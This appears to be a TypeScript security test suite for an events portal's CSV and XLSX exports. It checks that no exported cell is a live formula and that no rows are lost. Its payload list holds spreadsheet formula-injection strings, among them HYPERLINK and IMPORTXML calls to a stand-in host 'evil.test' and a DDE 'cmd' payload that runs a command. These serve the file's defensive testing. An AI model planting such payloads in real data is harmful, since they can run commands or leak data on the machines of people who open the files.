// Exported lists: no cell is a formula, and no row is lost.
import { guestFields, solved } from '#test/human.ts'
import { readBook } from '#test/spreadsheets.ts'
import { expectOneOf, expectThat, expectNone, attack } from '../attack.ts'
import type { Portal } from '../portal.ts'
import { bookBooth, invoiceOf } from '../sample-data.ts'
import { turned } from './i18n.attack.ts'

/** Sends a request as a guest, with a solved proof of work. */
export async function requestAsGuest(
  portal: Portal,
  more: Record<string, unknown>,
  path = '/v1/guest-orders',
  fields: Record<string, unknown> = guestFields,
) {
  const { challenge } = (await portal.request('/v1/challenge')).json as { challenge: Parameters<typeof solved>[0] }
  return portal.request(path, { body: { ...fields, proof: solved(challenge), ...more }, timeoutMs: 30_000 })
}

/** Returns the cells of a CSV file (RFC 4180). */
export function cells(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of text
    .replace(/^\ufeff/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === '\r\n') rows.push([])
    if (end === '') break
  }
  return rows.filter((row) => row.some(Boolean))
}

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("https://evil.test","x")',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=IMPORTXML("https://evil.test")',
  '+cmd|x',
  '"=1+1',
  ',=1+1',
]

/** SQL condition for the current edition, because an export contains the rows of one edition. */
const ofEdition = `where edition_id = (select id from editions where state = 'current')`

export const live = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^[+-]?\d[\d.]*$/.test(cell)

/** Exports a list as CSV and XLSX, and returns the cells of both. */
async function taken(portal: Portal, cookie: string, path: string) {
  const csv = await portal.request(`${path}?format=csv&locale=en`, { cookie })
  const xlsx = await portal.request(`${path}?format=xlsx&locale=en`, { cookie })
  expectOneOf(csv.status, [200], `${path} csv`)
  const { rows: sheetRows, hasFormula } = await readBook(Buffer.from(xlsx.bytes))
  return { csv, rows: cells(csv.text), sheetRows: sheetRows as unknown[][], hasFormula }
}

attack('CSV-001 (H) No cell of an export is a formula', async (product) => {
  const portal = await product.portal()
  const { cookie } = await product.as(portal, 'dariush')
  const wrong: string[] = []
  for (const text of formulas) {
    const user = await product.user(portal)
    await portal.request('/v1/profile/edit', {
      cookie: user.cookie,
      body: { name: text, lastName: text, companyName: text, jobPosition: text },
    })
    await invoiceOf(
      product,
      portal,
      (await bookBooth(product, portal, user, { companyName: text, visitorName: text, fieldOfActivity: text })).id,
    )
  }
  for (const path of [
    '/v1/panel/orders/export',
    '/v1/panel/users/export',
    '/v1/panel/invoices/export',
    '/v1/panel/audit-log/export',
  ]) {
    const { rows, hasFormula } = await taken(portal, cookie, path)
    wrong.push(
      ...rows
        .flat()
        .filter(live)
        .map((cell) => `${path}: ${cell}`),
    )
    if (hasFormula) wrong.push(`${path}: a formula in the book`)
  }
  expectNone(wrong, 'cells')
})

attack('CSV-002 (M) An export has every row, whatever the names', async (product) => {
  const portal = await product.portal()
  const { cookie } = await product.as(portal, 'dariush')
  const user = await product.user(portal)
  const name = 'شرکت «الف، ب»; "کاما", یک‌دو ‮gnp‬ پایان'
  await bookBooth(product, portal, user, { companyName: name, visitorName: 'a,b;"c"' })
  for (const [path, table] of [
    ['/v1/panel/orders/export', `orders ${ofEdition}`],
    ['/v1/panel/users/export', 'users where deleted_at is null'],
    ['/v1/panel/invoices/export', `invoices ${ofEdition}`],
  ] as const) {
    const { csv, rows, sheetRows } = await taken(portal, cookie, path)
    const {
      rows: [{ total }],
    } = (await (
      await product.pool(portal)
    ).query<{ total: number }>(`select count(*)::int as total from ${table}`)) as unknown as {
      rows: [{ total: number }]
    }
    expectThat(
      csv.bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])) &&
        /charset=utf-8/i.test(String(csv.headers['content-type'])),
      `${path} has no mark of UTF-8`,
    )
    expectThat(
      rows.length === total + 1 && sheetRows.length === total + 1,
      `${path}: ${rows.length - 1} and ${sheetRows.length - 1} rows of ${total}`,
    )
    expectThat(new Set(rows.map((row) => row.length)).size === 1, `${path} has rows of different lengths`)
    expectThat(!/[‪-‮]/.test(csv.text) && !turned(csv.text), `${path} turns around`)
  }
  expectThat(
    (await taken(portal, cookie, '/v1/panel/orders/export')).rows.some((row) =>
      row.some((cell) => cell.includes('«الف، ب»; "کاما", یک‌دو')),
    ),
    'the name is not whole',
  )
})

attack('CSV-003 (C) Texts of anonymous visitors are no formulas in an export', async (product) => {
  const portal = await product.portal()
  const { cookie } = await product.as(portal, 'dariush')
  for (const text of formulas)
    expectOneOf(
      (await requestAsGuest(portal, { visitorName: text, companyName: text, message: text })).status,
      [201],
      text,
    )
  for (const phoneNumber of ['=0912', '+98 912 345 6789', '-0912', '@0912'])
    await requestAsGuest(portal, { phoneNumber })
  const { rows, hasFormula } = await taken(portal, cookie, '/v1/panel/orders/export')
  expectNone(rows.flat().filter(live), 'cells are formulas')
  expectThat(rows.flat().filter((cell) => cell.includes('HYPERLINK')).length > 0, 'the guests are not in the file')
  expectThat(!hasFormula, 'a formula in the book')
})
